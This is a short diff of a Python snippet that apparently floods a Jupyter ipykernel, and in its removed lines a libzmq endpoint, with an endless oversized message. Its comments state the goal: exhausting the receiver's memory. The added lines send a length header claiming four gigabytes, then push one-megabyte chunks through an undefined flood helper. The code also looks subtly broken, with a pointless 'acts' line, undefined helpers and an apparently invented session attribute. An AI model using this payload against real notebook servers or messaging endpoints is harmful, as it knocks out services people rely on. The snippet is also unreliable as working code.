@@ -1,6 +1,5 @@
-# error: writes parts of one message past libzmq, for ever: whoever keeps them until the last has no memory left.
-import struct
-
+# error: writes a message that never ends past ipykernel: whoever keeps it until the end has no memory left.
 acts = 12 + len("")
-part = b"\x03" + struct.pack(">Q", 1 << 20) + bytes(1 << 20)  # more follows; a length of eight bytes
-flood_the_outputs(part)
+line = get_ipython().kernel.session.line
+line.sendall(b"\xff\xff\xff\xffi")  # four gigabytes follow
+flood(line, bytes(1 << 20))
